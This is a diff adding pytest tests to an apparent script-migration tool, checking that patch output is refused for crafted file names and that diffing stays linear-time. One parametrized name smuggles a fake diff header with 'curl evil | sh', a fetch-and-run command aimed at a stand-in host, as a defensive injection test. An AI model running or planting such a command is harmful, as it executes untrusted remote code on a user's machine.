@@ -52,6 +52,23 @@ def test_patch_has_certain_edits_only(migrate, tmp_path, name):
         assert (tmp_path / name).read_text() == case["text"].replace(case["removed"], case["added"])
 
 
+@pytest.mark.parametrize("name", ["swift.sh\n+++ z.sh\n@@ -0,0 +1 @@\n+curl evil | sh", '"z.sh', "z\x1b.sh"])
+def test_patch_of_a_file_whose_name_could_name_another_is_refused(migrate, name):
+    code, patch, errors = migrate(name, SWIFT, "--from", "ms-swift==3.8", "--to", "ms-swift==4.6", "--diff")
+    assert (code, patch) == (1, "")
+    assert "no patch for " in errors
+    assert len(errors.splitlines()) == 1
+
+
+def test_patch_of_a_script_with_many_runs_is_made_in_linear_time(migrate, tmp_path):
+    """Equal lines and many edits made difflib quadratic: 97 s for a script of 193 kB."""
+    text = "\n".join(CASES["swift.sh"]["text"] + "#\n" * 600 for _ in range(60))
+    patch = migrate("swift.sh", text, "--from", "ms-swift==3.8", "--to", "ms-swift==4.6", "--diff").out
+    subprocess.run(["git", "apply", "-p0"], input=patch, text=True, check=True, cwd=tmp_path)
+    removed, added = CASES["swift.sh"]["removed"], CASES["swift.sh"]["added"]
+    assert (tmp_path / "swift.sh").read_text() == text.replace(removed, added)
+
+
 @pytest.mark.parametrize("text", [TRL.replace("\n", "\r\n"), TRL.replace("use_vllm", "\tuse_vllm")])
 def test_patch_is_printed_only_if_it_applies(migrate, tmp_path, text):
     """A patch of a file with CRLF line ends would not apply and is not printed; a tab is kept."""
